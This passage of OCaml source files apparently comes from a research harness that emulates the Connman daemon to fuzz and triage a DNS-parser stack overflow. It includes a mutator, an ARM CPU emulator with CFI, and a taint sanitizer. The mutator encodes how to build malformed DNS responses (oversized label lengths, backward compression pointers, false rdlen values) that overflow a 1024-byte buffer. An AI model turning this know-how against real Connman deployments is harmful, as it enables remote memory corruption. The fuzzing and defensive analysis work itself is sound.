      Format.fprintf ppf "  crash @exec %d: %s%s@." c.exec c.outcome
        (match c.provenance with
        | Some p -> "\n    " ^ p
        | None -> ""))
    st.crashes
