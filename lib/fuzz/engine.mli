(** Coverage-guided snapshot fuzzer for the Connman parse path.

    Boots the daemon image once, takes a copy-on-write snapshot
    ({!Loader.Process.snapshot}), then per execution restores the
    snapshot, writes a mutated DNS datagram into the guest rx buffer and
    calls [parse_response] with edge coverage ({!Coverage}) tapped off
    the instruction profiler.  Inputs reaching new edges join the
    corpus; crashing inputs are replayed under the taint oracle
    ({!Sanitizer.Oracle}) from the same snapshot for triage, so every
    crash report carries the detection rule and the
    [wire[off]@fuzz -> mem -> pc] provenance chain.

    A run is a pure function of [config.seed]: the stats (and their
    JSON) are byte-identical across re-runs. *)

type config = {
  arch : Loader.Arch.t;
  version : Connman.Version.t;
  profile : Defense.Profile.t;
  seed : int;
  max_execs : int;  (** mutation budget (seed executions not counted) *)
  stop_on_find : bool;
      (** stop at the first crash the oracle triages as redzone-write —
          the Listing-1 overflow signature *)
}

val default_config : config
(** x86, Connman 1.34, W⊕X profile, seed 1, 2000 execs, no early stop. *)

type crash = {
  exec : int;  (** 1-based mutation-execution index *)
  input : string;  (** the wire bytes *)
  outcome : string;
  steps : int;
  rule : string option;  (** first detection rule fired during triage *)
  wire_offset : int option;  (** wire byte the report chains back to *)
  provenance : string option;  (** rendered report with symbolized pc *)
}

type stats = {
  cfg : config;
  seed_inputs : int;
  execs : int;
  corpus : int;
  edges : int;
  total_steps : int;  (** guest instructions retired across all runs *)
  crashes : crash list;  (** deduped by (outcome, rule), chronological *)
  rediscovered_at : int option;
      (** execution index of the first redzone-write triage *)
  first_rule : string option;
}

val benign_seeds : unit -> string list
(** The well-formed seed corpus (encoded responses, compression
    included). *)

val run : config -> stats

val stats_json : stats -> string
(** [fuzz-stats-v1] JSON; deterministic (no wall-clock fields) and
    byte-identical for equal seeds. *)

val pp_stats : Format.formatter -> stats -> unit

val hex_of_string : string -> string
val string_of_hex : string -> string
(** Inverse of {!hex_of_string}; raises [Invalid_argument] on odd-length
    input (used to replay the committed regression corpus). *)
