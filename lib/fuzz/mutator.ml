(* Wire-format-aware DNS mutations.

   Blind bit-flipping rarely builds the structures that reach deep into
   a DNS parser (a compression pointer needs two coordinated bytes; a
   hostile label length must sit exactly on a label boundary).  So in
   addition to the classic byte-level operators, the mutator walks the
   message's own structure — tolerantly, since corpus items are already
   mutants — to find label boundaries and rdlen fields, and splices
   adversarial values exactly there:

   - label-length splice: a boundary length byte is replaced with a
     value in 64..191, the range real resolvers reject but Connman's
     permissive [get_name] treats as a plain length (§III of the paper);
   - compression-pointer splice: a boundary becomes a 0xC0-prefixed
     pointer to an earlier offset, the raw material for the quadratic /
     looping expansions that overflow the 1024-byte stack buffer;
   - rdlen lie: the 16-bit rdata length is replaced with a value
     unrelated to the bytes that follow.

   All randomness flows from a caller-owned {!Memsim.Rng}, so a run is a
   pure function of its seed. *)

module Rng = Memsim.Rng

(* Byte values over-represented because they sit on the format's
   decision boundaries: label-length limits, the 0x40/0x80 reserved
   bits, the 0xC0 pointer tag, and all-ones. *)
let interesting =
  [| 0x00; 0x01; 0x3F; 0x40; 0x41; 0x7F; 0x80; 0xBF; 0xC0; 0xC1; 0xFF |]

(* {1 Tolerant structure walk}

   Finds label-boundary offsets and rdlen-field offsets without
   trusting the message: any inconsistency just ends the walk with
   whatever was found so far. *)

type wire_map = {
  label_offs : int list;  (* offsets of label length bytes, ascending *)
  rdlen_offs : int list;  (* offsets of 16-bit rdlen fields, ascending *)
}

let u16_at = Dns.Wire.get_u16

let wire_map s =
  let len = String.length s in
  let labels = ref [] and rdlens = ref [] in
  (* Walk one name starting at [off]; returns the offset just past it,
     or None if it runs off the message. *)
  let rec skip_name off budget =
    if budget = 0 || off >= len then None
    else
      match Char.code s.[off] with
      | 0 -> Some (off + 1)
      | b when b >= 0xC0 -> if off + 2 <= len then Some (off + 2) else None
      | b ->
          labels := off :: !labels;
          skip_name (off + 1 + b) (budget - 1)
  in
  if len < 12 then { label_offs = []; rdlen_offs = [] }
  else begin
    let qd = u16_at s 4
    and an = u16_at s 6
    and ns = u16_at s 8
    and ar = u16_at s 10 in
    (* Counts in a mutant can lie; cap the walk so it stays linear. *)
    let cap n = min n 32 in
    let off = ref (Some 12) in
    for _ = 1 to cap qd do
      match !off with
      | None -> ()
      | Some o -> (
          match skip_name o 64 with
          | Some o' when o' + 4 <= len -> off := Some (o' + 4)
          | _ -> off := None)
    done;
    for _ = 1 to cap (an + ns + ar) do
      match !off with
      | None -> ()
      | Some o -> (
          match skip_name o 64 with
          | Some o' when o' + 10 <= len ->
              rdlens := (o' + 8) :: !rdlens;
              let rdlen = u16_at s (o' + 8) in
              if o' + 10 + rdlen <= len then off := Some (o' + 10 + rdlen)
              else off := None
          | _ -> off := None)
    done;
    { label_offs = List.rev !labels; rdlen_offs = List.rev !rdlens }
  end

(* {1 Operators} *)

let set_byte s off v =
  let b = Bytes.of_string s in
  Bytes.set b off (Char.unsafe_chr (v land 0xFF));
  Bytes.to_string b

let set_u16 s off v =
  let b = Bytes.of_string s in
  Bytes.set b off (Char.unsafe_chr ((v lsr 8) land 0xFF));
  Bytes.set b (off + 1) (Char.unsafe_chr (v land 0xFF));
  Bytes.to_string b

let pick rng l = List.nth l (Rng.int rng (List.length l))

let op_bit_flip rng s =
  let off = Rng.int rng (String.length s) in
  set_byte s off (Char.code s.[off] lxor (1 lsl Rng.int rng 8))

let op_byte_set rng s =
  set_byte s (Rng.int rng (String.length s)) (Rng.int rng 256)

let op_interesting rng s =
  set_byte s
    (Rng.int rng (String.length s))
    interesting.(Rng.int rng (Array.length interesting))

(* The header-targeting operators need the header to still be there: a
   prior truncate can leave fewer than 12 bytes, in which case they pass
   the input through (before consuming any randomness, so longer inputs
   replay identically). *)

let op_flag_flip rng s =
  (* Header bytes 2-3: QR/opcode/AA/TC/RD/RA/Z/rcode. *)
  if String.length s < 4 then s
  else
    let off = 2 + Rng.int rng 2 in
    set_byte s off (Char.code s.[off] lxor (1 lsl Rng.int rng 8))

let op_count_lie rng s =
  if String.length s < 12 then s
  else
    let off = pick rng [ 4; 6; 8; 10 ] in
    let v = pick rng [ 0; 1; 2; 3; 0xFF; 0xFFFF ] in
    set_u16 s off v

let op_truncate rng s =
  let n = String.length s in
  if n <= 1 then s else String.sub s 0 (1 + Rng.int rng (n - 1))

let op_grow rng s ~max_len =
  let n = String.length s in
  if n >= max_len then s
  else begin
    (* Duplicate a chunk of the message after a random split point:
       grows the input with in-distribution bytes (names, RR shells)
       rather than noise. *)
    let chunk_len = 1 + Rng.int rng (min n (max_len - n)) in
    let src = Rng.int rng (n - chunk_len + 1) in
    let at = Rng.int rng (n + 1) in
    String.sub s 0 at ^ String.sub s src chunk_len ^ String.sub s at (n - at)
  end

let op_label_splice rng s =
  match (wire_map s).label_offs with
  | [] -> s
  | offs ->
      (* 64..191: rejected by strict resolvers, accepted as a plain
         length by the permissive target parser. *)
      set_byte s (pick rng offs) (64 + Rng.int rng 128)

let op_pointer_splice rng s =
  match (wire_map s).label_offs with
  | [] -> s
  | offs ->
      let off = pick rng offs in
      if off + 2 > String.length s then s
      else
        (* Point backwards (including at or before this name's own
           start): re-walking earlier bytes is what compounds the
           expansion. *)
        let target = Rng.int rng (max 1 off) in
        set_u16 s off (0xC000 lor (target land 0x3FFF))

let op_rdlen_lie rng s =
  match (wire_map s).rdlen_offs with
  | [] -> s
  | offs ->
      let v = pick rng [ 0; 1; 4; 0x40; 0x400; 0xFFFF ] in
      set_u16 s (pick rng offs) v

let op_crossover rng s other =
  let a = 1 + Rng.int rng (String.length s) in
  let b = Rng.int rng (String.length other + 1) in
  String.sub s 0 a ^ String.sub other b (String.length other - b)

(* {1 Driver} *)

(* Weights: structural operators get the bulk of the budget — they are
   the ones that move execution into new parse paths. *)
let apply_one rng ~max_len ~pick_other s =
  let s = if String.length s = 0 then "\x00" else s in
  match Rng.int rng 12 with
  | 0 -> op_bit_flip rng s
  | 1 -> op_byte_set rng s
  | 2 -> op_interesting rng s
  | 3 -> op_flag_flip rng s
  | 4 -> op_count_lie rng s
  | 5 -> op_truncate rng s
  | 6 -> op_grow rng s ~max_len
  | 7 | 8 -> op_label_splice rng s
  | 9 | 10 -> op_pointer_splice rng s
  | 11 -> (
      match Rng.int rng 2 with
      | 0 -> op_rdlen_lie rng s
      | _ -> op_crossover rng s (pick_other ()))
  | _ -> assert false

let clamp ~max_len s =
  if String.length s > max_len then String.sub s 0 max_len else s

let mutate rng ~max_len ~pick_other s =
  let stack = 1 + Rng.int rng 3 in
  let rec go n s = if n = 0 then s else go (n - 1) (apply_one rng ~max_len ~pick_other s) in
  clamp ~max_len (go stack s)
