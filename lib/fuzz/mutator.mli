(** Wire-format-aware DNS mutation operators.

    Beyond classic byte-level havoc (bit flips, interesting bytes,
    truncation, chunk duplication, crossover), the mutator walks the
    message's own structure to splice adversarial values exactly where
    the parser will consume them: header flag flips and section-count
    lies, label-length splices in the 64..191 range only the permissive
    target parser accepts, compression-pointer splices to earlier
    offsets (the raw material of the Listing-1 expansion overflow), and
    rdlen lies.  Deterministic: all randomness comes from the caller's
    {!Memsim.Rng}. *)

type wire_map = {
  label_offs : int list;  (** offsets of label length bytes *)
  rdlen_offs : int list;  (** offsets of 16-bit rdlen fields *)
}

val wire_map : string -> wire_map
(** Tolerant structural walk; never raises, returns whatever structure
    is recognizable from the (possibly already mutated) bytes. *)

val mutate :
  Memsim.Rng.t ->
  max_len:int ->
  pick_other:(unit -> string) ->
  string ->
  string
(** Apply a random stack (1–3) of operators.  [pick_other] supplies a
    second corpus item for crossover.  The result is non-empty and at
    most [max_len] bytes. *)
