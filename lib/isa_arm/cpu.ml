open Insn
module Mem = Memsim.Memory
module Word = Memsim.Word
module Outcome = Machine.Outcome

(* [compiled] is the icache payload: the decoded instruction plus an
   execution thunk specialized at fill time for the instruction's (fixed)
   address — pc+8 reads, successor pc and branch targets are captured
   constants, register operands pre-resolved array indices.  See
   [compile]. *)
type t = {
  mem : Mem.t;
  regs : int array;
  mutable n : bool;
  mutable z : bool;
  mutable c : bool;
  mutable v : bool;
  mutable shadow : int list;
  mutable cfi : bool;
  mutable steps : int;
  mutable branched : bool;
  icache : compiled Memsim.Icache.t option;
}

and kernel = int -> t -> Outcome.syscall_result

and compiled = {
  insn : Insn.t;
  run : t -> kernel -> Outcome.stop_reason option;
}

let create ?(cfi = false) ?(icache = true) mem =
  {
    mem;
    regs = Array.make 16 0;
    n = false;
    z = false;
    c = false;
    v = false;
    shadow = [];
    cfi;
    steps = 0;
    branched = false;
    icache =
      (if icache then
         Some
           (Memsim.Icache.create
              ~dummy:{ insn = al (Mov (R0, Reg R0)); run = (fun _ _ -> None) }
              mem)
       else None);
  }

(* [reg_index] is total over r0-r15, so the bounds checks would never
   fire — and these accessors run several times per interpreted
   instruction. *)
let pc t = Array.unsafe_get t.regs 15
let set_pc t v = Array.unsafe_set t.regs 15 (Word.of_int v)

let get t r =
  match r with
  | PC -> Word.add (pc t) 8
  | _ -> Array.unsafe_get t.regs (reg_index r)

let set t r v = Array.unsafe_set t.regs (reg_index r) (Word.of_int v)

let push t v =
  let sp = Word.sub (get t SP) 4 in
  set t SP sp;
  Mem.write_u32 t.mem sp v

let pop t =
  let sp = get t SP in
  let v = Mem.read_u32 t.mem sp in
  set t SP (Word.add sp 4);
  v

let op2_value t = function
  | Imm i -> Word.of_int i
  | Reg r -> get t r
  | Lsl (r, amt) -> Word.of_int (get t r lsl amt)

let cond_holds t = function
  | EQ -> t.z
  | NE -> not t.z
  | CS -> t.c
  | CC -> not t.c
  | MI -> t.n
  | PL -> not t.n
  | HI -> t.c && not t.z
  | LS -> (not t.c) || t.z
  | GE -> t.n = t.v
  | LT -> t.n <> t.v
  | GT -> (not t.z) && t.n = t.v
  | LE -> t.z || t.n <> t.v
  | AL -> true

let set_cmp_flags t a b =
  let res = Word.sub a b in
  t.n <- Word.bit res 31;
  t.z <- res = 0;
  t.c <- a >= b;  (* no borrow *)
  t.v <- Word.bit a 31 <> Word.bit b 31 && Word.bit res 31 <> Word.bit a 31

let set_tst_flags t res =
  t.n <- Word.bit res 31;
  t.z <- res = 0

(* Return-edge CFI (see cpu.mli).  [pop_shadow] both validates and pops. *)
let check_return t target =
  if not t.cfi then None
  else
    match t.shadow with
    | expected :: rest when expected = Word.of_int target ->
        t.shadow <- rest;
        None
    | expected :: _ ->
        Some (Outcome.Cfi_violation { at = pc t; expected; got = target })
    | [] -> Some (Outcome.Cfi_violation { at = pc t; expected = 0; got = target })

(* Explicit control transfer: pc stays at the current instruction during
   execution so architectural PC reads yield start+8; [t.branched] marks
   that the fall-through pc update must be skipped.  Top-level (with the
   [branched] flag a CPU field rather than a [ref]) so executing an
   instruction allocates nothing. *)
let branch t target =
  t.branched <- true;
  set_pc t target

(* Data-processing writeback: writing PC is an indirect jump
   (`mov pc, lr` is a return and CFI-checked). *)
let dp_write t op rd v =
  match rd with
  | PC -> (
      let target = Word.of_int v land lnot 1 in
      match op with
      | Mov (_, Reg LR) -> (
          match check_return t target with
          | Some stop -> Some stop
          | None ->
              branch t target;
              None)
      | _ ->
          branch t target;
          None)
  | _ ->
      set t rd v;
      None

let exec t ~kernel start cond op =
        t.steps <- t.steps + 1;
        let next = Word.add start 4 in
        if not (cond_holds t cond) then begin
          set_pc t next;
          None
        end
        else begin
          t.branched <- false;
          let stop =
            try
              match op with
            | Mov (rd, o) -> dp_write t op rd (op2_value t o)
            | Mvn (rd, o) -> dp_write t op rd (Word.lognot (op2_value t o))
            | Add (rd, rn, o) -> dp_write t op rd (Word.add (get t rn) (op2_value t o))
            | Sub (rd, rn, o) -> dp_write t op rd (Word.sub (get t rn) (op2_value t o))
            | Rsb (rd, rn, o) -> dp_write t op rd (Word.sub (op2_value t o) (get t rn))
            | And (rd, rn, o) -> dp_write t op rd (get t rn land op2_value t o)
            | Orr (rd, rn, o) -> dp_write t op rd (get t rn lor op2_value t o)
            | Eor (rd, rn, o) -> dp_write t op rd (get t rn lxor op2_value t o)
            | Bic (rd, rn, o) ->
                dp_write t op rd (get t rn land Word.lognot (op2_value t o))
            | Mul (rd, rm, rs) -> dp_write t op rd (Word.mul (get t rm) (get t rs))
            | Cmp (rn, o) ->
                set_cmp_flags t (get t rn) (op2_value t o);
                None
            | Tst (rn, o) ->
                set_tst_flags t (get t rn land op2_value t o);
                None
            | Ldr (rd, rn, off) ->
                let v = Mem.read_u32 t.mem (Word.add (get t rn) off) in
                dp_write t op rd v
            | Str (rd, rn, off) ->
                Mem.write_u32 t.mem (Word.add (get t rn) off) (get t rd);
                None
            | Ldrb (rd, rn, off) ->
                let v = Mem.read_u8 t.mem (Word.add (get t rn) off) in
                dp_write t op rd v
            | Strb (rd, rn, off) ->
                Mem.write_u8 t.mem (Word.add (get t rn) off) (get t rd land 0xFF);
                None
            | Ldr_r (rd, rn, rm) ->
                dp_write t op rd (Mem.read_u32 t.mem (Word.add (get t rn) (get t rm)))
            | Str_r (rd, rn, rm) ->
                Mem.write_u32 t.mem (Word.add (get t rn) (get t rm)) (get t rd);
                None
            | Ldrb_r (rd, rn, rm) ->
                dp_write t op rd (Mem.read_u8 t.mem (Word.add (get t rn) (get t rm)))
            | Strb_r (rd, rn, rm) ->
                Mem.write_u8 t.mem
                  (Word.add (get t rn) (get t rm))
                  (get t rd land 0xFF);
                None
            | Push regs ->
                let n = List.length regs in
                let base = Word.sub (get t SP) (4 * n) in
                List.iteri
                  (fun i r -> Mem.write_u32 t.mem (Word.add base (4 * i)) (get t r))
                  regs;
                set t SP base;
                None
            | Pop regs -> (
                let sp0 = get t SP in
                let values =
                  List.mapi
                    (fun i _ -> Mem.read_u32 t.mem (Word.add sp0 (4 * i)))
                    regs
                in
                set t SP (Word.add sp0 (4 * List.length regs));
                let pc_target = ref None in
                List.iter2
                  (fun r v -> if r = PC then pc_target := Some v else set t r v)
                  regs values;
                match !pc_target with
                | None -> None
                | Some target -> (
                    let target = target land lnot 1 in
                    match check_return t target with
                    | Some stop -> Some stop
                    | None ->
                        branch t target;
                        None))
            | B d ->
                branch t (Word.add (Word.add start 8) d);
                None
            | Bl d ->
                let ret = next in
                set t LR ret;
                if t.cfi then t.shadow <- ret :: t.shadow;
                branch t (Word.add (Word.add start 8) d);
                None
            | Bx r -> (
                let target = get t r land lnot 1 in
                if r = LR then
                  match check_return t target with
                  | Some stop -> Some stop
                  | None ->
                      branch t target;
                      None
                else begin
                  branch t target;
                  None
                end)
            | Blx_r r ->
                let target = get t r land lnot 1 in
                let ret = next in
                set t LR ret;
                if t.cfi then t.shadow <- ret :: t.shadow;
                branch t target;
                None
            | Svc n -> (
                match kernel n t with
                | Outcome.Resume -> None
                | Outcome.Stop reason -> Some reason)
            with Mem.Fault f -> Some (Outcome.Fault f)
          in
          (match stop with
          | None -> if not t.branched then set_pc t next
          | Some _ -> ());
          stop
        end

(* Specialize one decoded instruction into an execution thunk for its
   (fixed) address: pc+8 reads, the successor pc and pc-relative branch
   targets become captured constants, register operands become
   pre-resolved array indices, and forms that cannot fault or write pc
   skip the fault handler and the [branched] protocol.  Anything outside
   the hot set (pc-writing data-processing, block transfers, register
   branches, shifted-register addressing) falls back to the generic
   [exec] — behavior is bit-identical either way, which the differential
   tests assert instruction-by-instruction over every exploit scenario.
   Compilation cost is paid once per (page generation, address), i.e. on
   the same events as decoding itself. *)
let compile start { cond; op } =
  let next = Word.add start 4 in
  (* Pre-resolved operand readers.  pc reads as start+8 — a constant at
     this address, folded here. *)
  let creg r =
    match r with
    | PC ->
        let v = Word.add start 8 in
        fun _ -> v
    | _ ->
        let i = reg_index r in
        fun t -> Array.unsafe_get t.regs i
  in
  let cop2 = function
    | Imm i ->
        let v = Word.of_int i in
        fun _ -> v
    | Reg r -> creg r
    | Lsl (PC, amt) ->
        let v = Word.of_int (Word.add start 8 lsl amt) in
        fun _ -> v
    | Lsl (r, amt) ->
        let i = reg_index r in
        fun t -> Word.of_int (Array.unsafe_get t.regs i lsl amt)
  in
  (* Conditional execution wrapper for the specialized forms: a failed
     condition still retires the instruction (steps counts attempts, as
     in [exec]) and falls through. *)
  let guard body =
    if cond = AL then body
    else
      fun t kernel ->
        if cond_holds t cond then body t kernel
        else begin
          t.steps <- t.steps + 1;
          set_pc t next;
          None
        end
  in
  (* Data-processing writeback to a non-pc register: no fault possible,
     no control transfer, flags untouched (the subset has no S bit
     outside cmp/tst). *)
  let dp rd f =
    let d = reg_index rd in
    guard (fun t _ ->
        t.steps <- t.steps + 1;
        Array.unsafe_set t.regs d (Word.of_int (f t));
        set_pc t next;
        None)
  in
  let load rd read addr_of =
    let d = reg_index rd in
    guard (fun t _ ->
        t.steps <- t.steps + 1;
        match read t.mem (addr_of t) with
        | v ->
            Array.unsafe_set t.regs d v;
            set_pc t next;
            None
        | exception Mem.Fault f -> Some (Outcome.Fault f))
  in
  let store write addr_of value_of =
    guard (fun t _ ->
        t.steps <- t.steps + 1;
        match write t.mem (addr_of t) (value_of t) with
        | () ->
            set_pc t next;
            None
        | exception Mem.Fault f -> Some (Outcome.Fault f))
  in
  match op with
  | Mov (rd, o) when rd <> PC ->
      let o = cop2 o in
      dp rd o
  | Mvn (rd, o) when rd <> PC ->
      let o = cop2 o in
      dp rd (fun t -> Word.lognot (o t))
  | Add (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> Word.add (n t) (o t))
  | Sub (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> Word.sub (n t) (o t))
  | Rsb (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> Word.sub (o t) (n t))
  | And (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> n t land o t)
  | Orr (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> n t lor o t)
  | Eor (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> n t lxor o t)
  | Bic (rd, rn, o) when rd <> PC ->
      let n = creg rn and o = cop2 o in
      dp rd (fun t -> n t land Word.lognot (o t))
  | Mul (rd, rm, rs) when rd <> PC ->
      let m = creg rm and s = creg rs in
      dp rd (fun t -> Word.mul (m t) (s t))
  | Cmp (rn, o) ->
      let n = creg rn and o = cop2 o in
      guard (fun t _ ->
          t.steps <- t.steps + 1;
          set_cmp_flags t (n t) (o t);
          set_pc t next;
          None)
  | Tst (rn, o) ->
      let n = creg rn and o = cop2 o in
      guard (fun t _ ->
          t.steps <- t.steps + 1;
          set_tst_flags t (n t land o t);
          set_pc t next;
          None)
  | Ldr (rd, rn, off) when rd <> PC ->
      let a = creg rn in
      load rd Mem.read_u32 (fun t -> Word.add (a t) off)
  | Str (rd, rn, off) ->
      let a = creg rn and s = creg rd in
      store Mem.write_u32 (fun t -> Word.add (a t) off) s
  | Ldrb (rd, rn, off) when rd <> PC ->
      let a = creg rn in
      load rd Mem.read_u8 (fun t -> Word.add (a t) off)
  | Strb (rd, rn, off) ->
      let a = creg rn and s = creg rd in
      store Mem.write_u8 (fun t -> Word.add (a t) off) (fun t -> s t land 0xFF)
  | B d ->
      let target = Word.add (Word.add start 8) d in
      if cond = AL then
        fun t _ ->
          t.steps <- t.steps + 1;
          set_pc t target;
          None
      else
        fun t _ ->
          t.steps <- t.steps + 1;
          set_pc t (if cond_holds t cond then target else next);
          None
  | Bl d when cond = AL ->
      let target = Word.add (Word.add start 8) d in
      fun t _ ->
        t.steps <- t.steps + 1;
        Array.unsafe_set t.regs 14 next;
        if t.cfi then t.shadow <- next :: t.shadow;
        set_pc t target;
        None
  | Svc n when cond = AL ->
      fun t kernel -> (
        t.steps <- t.steps + 1;
        try
          match kernel n t with
          | Outcome.Resume ->
              set_pc t next;
              None
          | Outcome.Stop reason -> Some reason
        with Mem.Fault f -> Some (Outcome.Fault f))
  | _ -> fun t kernel -> exec t ~kernel start cond op

(* What [lookup]'s miss path fills entries with: decode, then compile for
   the decode address.  Every A32 instruction is 4 aligned bytes, so a
   cached entry never straddles a page.  Top-level: the hit path
   allocates nothing. *)
let compile_decode mem addr =
  let insn = Decode.decode mem addr in
  ({ insn; run = compile addr insn }, 4)

(* Fetch-decode-execute, through the decoded-instruction cache when
   enabled; on a hit the NX check is carried by the cache's generation
   protocol (any byte store or [set_perm] on the page forces a
   re-decode). *)
let step t ~kernel =
  let start = pc t in
  if start land 3 <> 0 then
    Some
      (Outcome.Fault
         { Mem.addr = start; kind = Mem.Perm_exec; context = "unaligned pc" })
  else
    match t.icache with
    | Some c -> (
        match Memsim.Icache.lookup c start ~decode:compile_decode with
        | exception Decode.Error { addr; word } ->
            Some (Outcome.Decode_error { addr; byte = word land 0xFF })
        | exception Mem.Fault f -> Some (Outcome.Fault f)
        | e -> (e.Memsim.Icache.v).run t kernel)
    | None -> (
        match Decode.decode t.mem start with
        | exception Decode.Error { addr; word } ->
            Some (Outcome.Decode_error { addr; byte = word land 0xFF })
        | exception Mem.Fault f -> Some (Outcome.Fault f)
        | { cond; op } -> exec t ~kernel start cond op)

(* As on x86: dedicated loops with a direct compare for the zero/one-trap
   cases, a precomputed int hash set beyond that — never a per-step list
   scan. *)
let run ?(fuel = 2_000_000) ~traps ~kernel t =
  match traps with
  | [] ->
      let rec loop budget =
        if budget <= 0 then Outcome.Fuel_exhausted
        else
          match step t ~kernel with
          | Some reason -> reason
          | None -> loop (budget - 1)
      in
      loop fuel
  | [ a ] ->
      let rec loop budget =
        if budget <= 0 then Outcome.Fuel_exhausted
        else if pc t = a then Outcome.Halted
        else
          match step t ~kernel with
          | Some reason -> reason
          | None -> loop (budget - 1)
      in
      loop fuel
  | l ->
      let set = Hashtbl.create (2 * List.length l) in
      List.iter (fun a -> Hashtbl.replace set a ()) l;
      let rec loop budget =
        if budget <= 0 then Outcome.Fuel_exhausted
        else if Hashtbl.mem set (pc t) then Outcome.Halted
        else
          match step t ~kernel with
          | Some reason -> reason
          | None -> loop (budget - 1)
      in
      loop fuel

(* Traced fetch-decode-execute — the ARM twin of the x86 [run_traced]:
   same [step] core, telemetry on the side, untraced loops untouched.
   Timestamps are the retired-instruction counter offset from the trace
   clock at entry; basic-block entries are detected by comparing the
   post-step pc against the fall-through address (every A32 instruction
   is 4 bytes). *)
let run_traced ?(fuel = 2_000_000) ~traps ~kernel ?trace ?profile t =
  let module Tr = Telemetry.Trace in
  let base_ts = match trace with Some tr -> Tr.now tr | None -> 0 in
  let emit name args =
    match trace with
    | None -> ()
    | Some tr ->
        Tr.emit tr ~ts:(base_ts + t.steps) ~cat:"cpu" ~track:"cpu-arm" name
          ~args
  in
  emit "call" [ ("entry", Tr.I (pc t)) ];
  let peek addr =
    match Decode.decode t.mem addr with
    | insn -> Some insn
    | exception Decode.Error _ -> None
    | exception Mem.Fault _ -> None
  in
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem (pc t) traps then begin
      emit "trap" [ ("pc", Tr.I (pc t)) ];
      Outcome.Halted
    end
    else begin
      let pc0 = pc t in
      (match profile with
      | None -> ()
      | Some p -> Telemetry.Profile.record p pc0);
      let peeked = match trace with None -> None | Some _ -> peek pc0 in
      (match peeked with
      | Some { op = Svc n; _ } ->
          emit "syscall" [ ("vector", Tr.I n); ("r7", Tr.I (get t R7)) ]
      | _ -> ());
      match step t ~kernel with
      | Some reason ->
          emit "stop"
            [ ("reason", Tr.S (Outcome.to_string reason)); ("pc", Tr.I (pc t)) ];
          reason
      | None ->
          (match peeked with
          | Some _ when pc t <> Word.add pc0 4 ->
              emit "bb" [ ("pc", Tr.I (pc t)); ("from", Tr.I pc0) ]
          | _ -> ());
          loop (budget - 1)
    end
  in
  let reason = loop fuel in
  (match trace with
  | Some tr -> Tr.set_now tr (base_ts + t.steps)
  | None -> ());
  reason

(* Sanitized fetch-decode-execute — the ARM twin of the x86
   [run_sanitized]: peek, run the oracle's pre-step rules against the
   pre-state, step through the same [step] core as [run] (outcomes and
   step counts bit-identical), then commit taint effects only if the
   instruction retired.  All planner reads of guest memory are guarded
   against faults; a condition-failed instruction plans nothing, exactly
   as it executes nothing. *)
let run_sanitized ?(fuel = 2_000_000) ~traps ~kernel ~oracle t =
  let module O = Sanitizer.Oracle in
  let module Shadow = Memsim.Shadow in
  let rlab r = match r with PC -> 0 | _ -> O.reg_label oracle (reg_index r) in
  let set_rlab r l = O.set_reg_label oracle (reg_index r) l in
  let mlab8 a = O.mem_label oracle a in
  let mlab32 a = O.mem_label32 oracle a in
  let lab_op2 = function Imm _ -> 0 | Reg r | Lsl (r, _) -> rlab r in
  let try_read32 a =
    match Mem.read_u32 t.mem a with v -> v | exception Mem.Fault _ -> 0
  in
  let cstring_label addr =
    let rec go i =
      if i >= 256 then 0
      else
        let a = Word.add addr i in
        match Mem.read_u8 t.mem a with
        | exception Mem.Fault _ -> 0
        | 0 -> 0
        | _ ->
            let l = mlab8 a in
            if l <> 0 then l else go (i + 1)
    in
    go 0
  in
  let peek addr =
    match Decode.decode t.mem addr with
    | insn -> Some insn
    | exception Decode.Error _ -> None
    | exception Mem.Fault _ -> None
  in
  let nothing () = () in
  let rec loop budget =
    if budget <= 0 then Outcome.Fuel_exhausted
    else if List.mem (pc t) traps then Outcome.Halted
    else begin
      let pc0 = pc t in
      let stepno = t.steps in
      let store ~addr ~len ~value ~label =
        O.store oracle ~pc:pc0 ~step:stepno ~addr ~len ~value ~label
      in
      let check_pc ~target ~slot ~label ~detail =
        O.check_pc oracle ~pc:pc0 ~step:stepno ~target ~slot ~label ~detail
      in
      let commit =
        match peek pc0 with
        | Some { cond; op } when cond_holds t cond -> (
            (* Data-processing result label; a write to pc with a tainted
               result is the hijack. *)
            let dp rd v l =
              if rd = PC then begin
                check_pc ~target:(Word.of_int v land lnot 1) ~slot:0 ~label:l
                  ~detail:"tainted value written to pc";
                nothing
              end
              else fun () -> set_rlab rd l
            in
            match op with
            | Cmp _ | Tst _ | B _ -> nothing
            | Mov (rd, o) -> dp rd (op2_value t o) (lab_op2 o)
            | Mvn (rd, o) ->
                dp rd (Word.lognot (op2_value t o)) (lab_op2 o)
            | Eor (rd, rn, Reg rm) when rn = rm ->
                (* eor r, r, r clears the value — no attacker bytes
                   survive. *)
                dp rd 0 0
            | Add (rd, rn, o) ->
                dp rd
                  (Word.add (get t rn) (op2_value t o))
                  (Shadow.join (rlab rn) (lab_op2 o))
            | Sub (rd, rn, o) ->
                dp rd
                  (Word.sub (get t rn) (op2_value t o))
                  (Shadow.join (rlab rn) (lab_op2 o))
            | Rsb (rd, rn, o) ->
                dp rd
                  (Word.sub (op2_value t o) (get t rn))
                  (Shadow.join (rlab rn) (lab_op2 o))
            | And (rd, rn, o) ->
                dp rd
                  (get t rn land op2_value t o)
                  (Shadow.join (rlab rn) (lab_op2 o))
            | Orr (rd, rn, o) ->
                dp rd
                  (get t rn lor op2_value t o)
                  (Shadow.join (rlab rn) (lab_op2 o))
            | Eor (rd, rn, o) ->
                dp rd
                  (get t rn lxor op2_value t o)
                  (Shadow.join (rlab rn) (lab_op2 o))
            | Bic (rd, rn, o) ->
                dp rd
                  (get t rn land Word.lognot (op2_value t o))
                  (Shadow.join (rlab rn) (lab_op2 o))
            | Mul (rd, rm, rs) ->
                dp rd
                  (Word.mul (get t rm) (get t rs))
                  (Shadow.join (rlab rm) (rlab rs))
            | Ldr (rd, rn, off) ->
                let a = Word.add (get t rn) off in
                let l = mlab32 a in
                if rd = PC then begin
                  check_pc
                    ~target:(try_read32 a land lnot 1)
